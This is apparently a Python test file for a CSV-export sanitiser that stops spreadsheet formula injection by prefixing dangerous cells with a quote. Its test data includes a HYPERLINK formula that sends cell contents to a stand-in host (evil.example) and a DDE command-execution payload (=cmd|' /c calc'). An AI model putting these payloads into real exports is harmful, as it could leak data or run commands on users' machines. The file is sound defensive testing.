"""CSV exports: no cell a spreadsheet would run as a formula (datasets.csvsafe)."""
from __future__ import annotations

import csv
import io
from decimal import Decimal

import pytest

from datasets import csvsafe, readers

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\0", "＝", "＋", "－", "＠")


@pytest.mark.parametrize("value,written", [
    ('=HYPERLINK("http://evil.example/?"&A1,"사진")', '\'=HYPERLINK("http://evil.example/?"&A1,"사진")'),
    ("=cmd|' /c calc'!A1", "'=cmd|' /c calc'!A1"),
    ("+82 10 1234 5678", "'+82 10 1234 5678"),
    ("-2+3", "'-2+3"),
    ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
    ("\t=1+1", "'\t=1+1"),
    ("\r=1+1", "'\r=1+1"),
    ("  =1+1", "'  =1+1"),  # a spreadsheet that trims spaces on import would still see a formula
    ("\u3000＝1+1", "'\u3000＝1+1"),  # ideographic space, full-width equals sign
    ("와.. 족발 폼 미쳤다!", "와.. 족발 폼 미쳤다!"),
    ("a=b", "a=b"),
    ("'already quoted", "'already quoted"),
    ("", ""),
])
def test_neutralise(value, written):
    assert csvsafe.neutralise(value) == written


@pytest.mark.parametrize("value", [-3, 2.5, Decimal("-1.5"), None, True])
def test_values_that_are_not_text_are_written_as_they_are(value):
    assert csvsafe.neutralise(value) is value


def read_back(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def test_writer_neutralises_every_text_cell_and_keeps_the_csv_well_formed():
    buf = io.StringIO(newline="")
    w = csvsafe.writer(buf)
    w.writerow(["=title", "author", "n"])
    w.writerows([
        ['x",=1+1', "@Kim", -3],  # a quote and a comma cannot start a new cell either
        ["산책\n=2+2", "-", 0],
    ])
    assert read_back(buf.getvalue()) == [
        ["'=title", "author", "n"],
        ['x",=1+1', "'@Kim", "-3"],
        ["산책\n=2+2", "'-", "0"],
    ]
    cells = [cell for row in read_back(buf.getvalue())[1:] for cell in row[:2]]
    assert not any(cell.lstrip().startswith(FORMULA_STARTS) for cell in cells)


def test_dict_writer_with_its_own_dialect():
    buf = io.StringIO(newline="")
    w = csvsafe.DictWriter(buf, ["title", "licence"], delimiter=";")
    w.writeheader()
    w.writerow({"title": "+1;=2", "licence": "cc0-1.0"})
    assert buf.getvalue() == "title;licence\r\n\"'+1;=2\";cc0-1.0\r\n"


def test_a_manifest_title_is_stored_as_given_and_neutralised_only_when_exported():
    (entry,) = readers.manifest_entries('url,title,author\nhttp://h/a.jpg,"=HYPERLINK(""http://x"")",@lee\n', "csv")
    assert (entry.meta["title"], entry.meta["author"]) == ('=HYPERLINK("http://x")', "@lee")
    buf = io.StringIO(newline="")
    csvsafe.writer(buf).writerow([entry.meta["title"], entry.meta["author"]])
    assert read_back(buf.getvalue()) == [['\'=HYPERLINK("http://x")', "'@lee"]]
